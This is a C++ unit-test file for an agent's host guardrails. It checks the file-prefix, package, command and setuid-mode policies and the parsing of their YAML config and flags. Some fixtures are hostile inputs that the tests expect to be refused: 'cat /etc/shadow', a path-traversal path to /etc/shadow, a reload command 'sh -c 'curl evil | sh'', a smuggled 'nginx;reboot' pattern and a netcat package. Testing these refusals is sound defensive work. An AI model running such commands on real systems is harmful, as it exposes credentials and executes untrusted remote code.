// The host's guardrails as pure functions: what they admit, what they refuse
// and with which message, and how the config section and flags set them.

#include "agent/guardrails.h"

#include <string>

#include "agent/agent_config.h"
#include "agent/guardrails_config.h"
#include "gmock/gmock.h"
#include "gtest/gtest.h"

namespace swell::agent {
namespace {

using ::testing::ElementsAre;
using ::testing::HasSubstr;
using ::testing::UnorderedElementsAre;

swell::v1::VariableSpec File(const std::string& path) {
  swell::v1::VariableSpec spec;
  spec.set_name("f");
  spec.set_kind(swell::v1::VARIABLE_KIND_FILE);
  spec.mutable_file()->set_path(path);
  return spec;
}

swell::v1::VariableSpec Package(const std::string& name) {
  swell::v1::VariableSpec spec;
  spec.set_name("p");
  spec.set_kind(swell::v1::VARIABLE_KIND_PACKAGE);
  spec.mutable_package()->set_name(name);
  return spec;
}

swell::v1::VariableSpec Command() {
  swell::v1::VariableSpec spec;
  spec.set_name("c");
  spec.set_kind(swell::v1::VARIABLE_KIND_COMMAND);
  spec.mutable_command()->set_current("cat /etc/shadow");
  return spec;
}

Guardrails AppOnly() {
  Guardrails g;
  g.file_prefixes = {"/etc/app/"};
  return g;
}

TEST(GuardrailsTest, DefaultsRefuseCommandsAndEveryFileButAcceptPackages) {
  const Guardrails g;
  EXPECT_EQ(CheckRead(g, Command()).code(),
            absl::StatusCode::kPermissionDenied);
  EXPECT_EQ(CheckRead(g, Command()).message(),
            "refused by host policy: command variables are not allowed on "
            "this host (its guardrails accept the kinds [file, package, "
            "docker])");
  EXPECT_EQ(CheckApply(g, File("/etc/app/app.conf")).message(),
            "refused by host policy: /etc/app/app.conf is not under []");
  EXPECT_TRUE(CheckApply(g, Package("nginx")).ok());
  swell::v1::VariableSpec docker;
  docker.set_kind(swell::v1::VARIABLE_KIND_DOCKER);
  EXPECT_TRUE(CheckApply(g, docker).ok());
}

TEST(GuardrailsTest, FileOutsideThePrefixesIsRefusedNamingThem) {
  const Guardrails g = AppOnly();
  EXPECT_TRUE(CheckApply(g, File("/etc/app/app.conf")).ok());
  EXPECT_TRUE(CheckApply(g, File("/etc/app/conf.d/a.conf")).ok());
  absl::Status s = CheckApply(g, File("/etc/shadow"));
  EXPECT_EQ(s.code(), absl::StatusCode::kPermissionDenied);
  EXPECT_EQ(s.message(),
            "refused by host policy: /etc/shadow is not under [/etc/app/]");
  EXPECT_EQ(CheckRead(g, File("/etc/shadow")).message(), s.message())
      << "its content is not read either";
}

TEST(GuardrailsTest, PrefixesMatchWholeSegmentsOnly) {
  const Guardrails g = AppOnly();
  for (const char* outside :
       {"/etc/application", "/etc/app", "/etc/apps/x", "/etc/ap"}) {
    EXPECT_FALSE(CheckRead(g, File(outside)).ok()) << outside;
  }
  Guardrails root;
  root.file_prefixes = {"/"};
  EXPECT_TRUE(CheckRead(root, File("/etc/shadow")).ok());
}

TEST(GuardrailsTest, PathsThatAreNotNormalisedAreRefusedWhateverTheirPrefix) {
  const Guardrails g = AppOnly();
  for (const char* path : {"/etc/app/../shadow", "/etc/app/./x", "/etc/app//x",
                           "/etc/app/x/", "etc/app/x", "", "/etc/app/.."}) {
    absl::Status s = CheckApply(g, File(path));
    EXPECT_EQ(s.code(), absl::StatusCode::kPermissionDenied) << path;
    EXPECT_THAT(s.message(), HasSubstr("not an absolute, normalised path"))
        << path;
  }
}

TEST(GuardrailsTest, CommandKindIsAllowedOnlyWhenListed) {
  Guardrails g;
  g.kinds.insert(swell::v1::VARIABLE_KIND_COMMAND);
  EXPECT_TRUE(CheckRead(g, Command()).ok());
  EXPECT_TRUE(CheckApply(g, Command()).ok());
  g.kinds = {swell::v1::VARIABLE_KIND_FILE};
  EXPECT_THAT(CheckApply(g, Package("nginx")).message(),
              HasSubstr("package variables are not allowed on this host"));
}

TEST(GuardrailsTest, PackagesMustMatchAPattern) {
  Guardrails g;
  g.packages = {"nginx*", "docker-ce*"};
  EXPECT_TRUE(CheckApply(g, Package("nginx")).ok());
  EXPECT_TRUE(CheckApply(g, Package("nginx-common")).ok());
  EXPECT_EQ(CheckApply(g, Package("openssh-server")).message(),
            "refused by host policy: package 'openssh-server' matches none "
            "of [nginx*, docker-ce*]");
}

TEST(GuardrailsTest, DockerVariablesEnginesAndCompanionsMustMatch) {
  Guardrails g;
  g.packages = {"docker-ce*"};
  swell::v1::VariableSpec docker;
  docker.set_kind(swell::v1::VARIABLE_KIND_DOCKER);
  EXPECT_TRUE(CheckApply(g, docker).ok()) << "the default engine, docker-ce";
  docker.mutable_docker()->add_companion_packages("docker-ce-cli");
  EXPECT_TRUE(CheckApply(g, docker).ok());
  docker.mutable_docker()->add_companion_packages("netcat-openbsd");
  EXPECT_THAT(CheckApply(g, docker).message(),
              HasSubstr("package 'netcat-openbsd' matches none"));
  docker.mutable_docker()->clear_companion_packages();
  docker.mutable_docker()->set_package("docker.io");
  EXPECT_THAT(CheckRead(g, docker).message(),
              HasSubstr("package 'docker.io' matches none"));
}

TEST(GuardrailsTest, FileCommandsMustBeListedUnlessCommandsAreAllowed) {
  Guardrails g = AppOnly();
  swell::v1::VariableSpec spec = File("/etc/app/app.conf");
  spec.mutable_file()->set_validate("app --check {}");
  EXPECT_TRUE(CheckRead(g, spec).ok()) << "reading runs no command";
  EXPECT_EQ(CheckApply(g, spec).message(),
            "refused by host policy: the validate command 'app --check {}' "
            "is not one of this host's file_commands []");
  g.file_commands = {"app --check {}"};
  EXPECT_TRUE(CheckApply(g, spec).ok());
  spec.mutable_file()->set_reload("sh -c 'curl evil | sh'");
  EXPECT_THAT(CheckApply(g, spec).message(),
              HasSubstr("the reload command 'sh -c 'curl evil | sh''"));
  g.kinds.insert(swell::v1::VARIABLE_KIND_COMMAND);
  EXPECT_TRUE(CheckApply(g, spec).ok()) << "a host that runs any command";
}

TEST(GuardrailsTest, SetuidAndSetgidModesAreRefused) {
  const Guardrails g = AppOnly();
  swell::v1::VariableSpec spec = File("/etc/app/tool");
  spec.mutable_file()->set_mode(0755);
  EXPECT_TRUE(CheckApply(g, spec).ok());
  spec.mutable_file()->set_mode(04755);
  EXPECT_EQ(CheckApply(g, spec).message(),
            "refused by host policy: mode 4755 of /etc/app/tool sets setuid "
            "or setgid");
  spec.mutable_file()->set_mode(02755);
  EXPECT_FALSE(CheckApply(g, spec).ok());
}

TEST(GuardrailsTest, GlobMatchesWholeNames) {
  EXPECT_TRUE(GlobMatch("*", ""));
  EXPECT_TRUE(GlobMatch("*", "anything"));
  EXPECT_TRUE(GlobMatch("nginx*", "nginx"));
  EXPECT_TRUE(GlobMatch("nginx*", "nginx-full"));
  EXPECT_FALSE(GlobMatch("nginx*", "libnginx-mod"));
  EXPECT_TRUE(GlobMatch("*nginx*", "libnginx-mod"));
  EXPECT_FALSE(GlobMatch("lib?ssl3", "libssl3"));
  EXPECT_TRUE(GlobMatch("lib??l3", "libssl3"));
  EXPECT_TRUE(GlobMatch("a*b*c", "aXXbYYbc"));
  EXPECT_FALSE(GlobMatch("a*b*c", "aXXbYYbd"));
  EXPECT_FALSE(GlobMatch("nginx", "nginx-full"));
  EXPECT_FALSE(GlobMatch("", "x"));
}

TEST(GuardrailsTest, ConfigEntriesAreValidated) {
  for (const char* good : {"/", "/etc/app/", "/srv/a.b/c-d/"}) {
    EXPECT_TRUE(ValidateFilePrefix(good).ok()) << good;
  }
  for (const char* bad : {"", "/etc/app", "etc/app/", "/etc/../app/",
                          "/etc//app/", "/./", "//"}) {
    EXPECT_EQ(ValidateFilePrefix(bad).code(),
              absl::StatusCode::kInvalidArgument)
        << bad;
  }
  EXPECT_TRUE(ValidatePackagePattern("docker-ce*").ok());
  EXPECT_TRUE(ValidatePackagePattern("libstdc++6").ok());
  for (const char* bad : {"", "Nginx", "nginx;reboot", "[a-z]*", "a b"}) {
    EXPECT_FALSE(ValidatePackagePattern(bad).ok()) << bad;
  }
  EXPECT_FALSE(ValidateFileCommand("").ok());
  EXPECT_FALSE(ValidateFileCommand("a\nb").ok());
}

absl::StatusOr<GuardrailsSettings> ParseSection(const std::string& yaml) {
  return ParseGuardrailsYaml(YAML::Load(yaml)["guardrails"]);
}

TEST(GuardrailsConfigTest, SectionSetsEveryKey) {
  absl::StatusOr<GuardrailsSettings> s = ParseSection(R"(
guardrails:
  kinds: [file, command]
  file_prefixes: [/etc/app/, /etc/docker/]
  file_commands: ["dockerd --validate --config-file {}"]
  packages: ["nginx*"]
)");
  ASSERT_TRUE(s.ok()) << s.status();
  absl::StatusOr<Guardrails> g = MergeGuardrails(*s, {});
  ASSERT_TRUE(g.ok()) << g.status();
  EXPECT_THAT(g->kinds, UnorderedElementsAre(swell::v1::VARIABLE_KIND_FILE,
                                             swell::v1::VARIABLE_KIND_COMMAND));
  EXPECT_THAT(g->file_prefixes, ElementsAre("/etc/app/", "/etc/docker/"));
  EXPECT_THAT(g->file_commands,
              ElementsAre("dockerd --validate --config-file {}"));
  EXPECT_THAT(g->packages, ElementsAre("nginx*"));
}

TEST(GuardrailsConfigTest, KeysLeftOutKeepTheirDefaultsAndEmptyListsMeanNone) {
  absl::StatusOr<GuardrailsSettings> s =
      ParseSection("guardrails:\n  kinds: file\n  packages: []\n");
  ASSERT_TRUE(s.ok()) << s.status();
  absl::StatusOr<Guardrails> g = MergeGuardrails(*s, {});
  ASSERT_TRUE(g.ok()) << g.status();
  EXPECT_THAT(g->kinds, ElementsAre(swell::v1::VARIABLE_KIND_FILE));
  EXPECT_TRUE(g->packages.empty());
  EXPECT_TRUE(g->file_prefixes.empty());
}

TEST(GuardrailsConfigTest, ErrorsNameTheKeyLineAndColumn) {
  struct Case {
    const char* yaml;
    const char* what;
    const char* where;
  };
  for (const Case& c : {
           Case{"guardrails:\n  kinds: [file, shell]\n", "unknown kind 'shell'",
                "line 2, column 17"},
           Case{"guardrails:\n  file_prefixes:\n    - /etc/app\n",
                "guardrails.file_prefixes: file prefix '/etc/app' must",
                "line 3, column 7"},
           Case{"guardrails:\n  packages: [\"nginx;reboot\"]\n",
                "guardrails.packages: package pattern", "line 2, column 14"},
           Case{"guardrails:\n  commands: true\n",
                "unknown guardrails key 'commands'", "line 2, column 3"},
           Case{"guardrails:\n  file_prefixes: /etc/app/\n",
                "guardrails.file_prefixes must be a list", "line 2, column 18"},
           Case{"guardrails: [file]\n", "guardrails must be a map",
                "line 1, column 13"},
       }) {
    absl::StatusOr<GuardrailsSettings> s = ParseSection(c.yaml);
    ASSERT_FALSE(s.ok()) << c.yaml;
    EXPECT_EQ(s.status().code(), absl::StatusCode::kInvalidArgument);
    EXPECT_THAT(s.status().message(), HasSubstr(c.what)) << c.yaml;
    EXPECT_THAT(s.status().message(), HasSubstr(c.where)) << c.yaml;
  }
}

TEST(GuardrailsConfigTest, FlagsReplaceTheFilesKeyByKeyAndAreValidated) {
  GuardrailsSettings file;
  file.file_prefixes = {{"/etc/app/"}};
  file.packages = {{"nginx*"}};
  GuardrailsSettings flags;
  flags.file_prefixes = {{"/etc/docker/"}};
  flags.kinds = {{"command"}};
  absl::StatusOr<Guardrails> g = MergeGuardrails(file, flags);
  ASSERT_TRUE(g.ok()) << g.status();
  EXPECT_THAT(g->file_prefixes, ElementsAre("/etc/docker/"));
  EXPECT_THAT(g->packages, ElementsAre("nginx*"));
  EXPECT_THAT(g->kinds, ElementsAre(swell::v1::VARIABLE_KIND_COMMAND));

  flags.file_prefixes = std::vector<std::string>{};  // given empty: none
  EXPECT_TRUE(MergeGuardrails(file, flags)->file_prefixes.empty());

  flags.file_prefixes = {{"/etc/../"}};
  EXPECT_THAT(MergeGuardrails(file, flags).status().message(),
              HasSubstr("--guardrail-file-prefix: file prefix '/etc/../'"));
  flags.file_prefixes.reset();
  flags.kinds = {{"files"}};
  EXPECT_THAT(MergeGuardrails(file, flags).status().message(),
              HasSubstr("--guardrail-kinds: unknown kind 'files'"));
}

// The demo's hosts accept the demo's plans, and refuse a command variable.
TEST(GuardrailsConfigTest, DemoAgentConfigAcceptsTheDemoPlans) {
  const std::string source = SWELL_SOURCE_DIR_DEFAULT;
  absl::StatusOr<AgentConfigFile> file =
      LoadAgentConfigFile(source + "/deploy/demo/agent.yaml");
  ASSERT_TRUE(file.ok()) << file.status();
  absl::StatusOr<AgentConfig> config = MergeAgentConfig(*file, {}, "m");
  ASSERT_TRUE(config.ok()) << config.status();
  for (const char* plan :
       {"config-change.yaml", "bad-config.yaml", "debug-logging.yaml"}) {
    const YAML::Node change =
        YAML::LoadFile(source + "/deploy/examples/" + plan)["change"];
    swell::v1::VariableSpec spec = File(change["path"].as<std::string>());
    spec.mutable_file()->set_validate(change["validate"].as<std::string>());
    EXPECT_TRUE(CheckApply(config->guardrails, spec).ok())
        << plan << ": " << CheckApply(config->guardrails, spec);
  }
  EXPECT_FALSE(CheckRead(config->guardrails, Command()).ok());
  EXPECT_FALSE(CheckRead(config->guardrails, Package("nginx")).ok());
}

}  // namespace
}  // namespace swell::agent
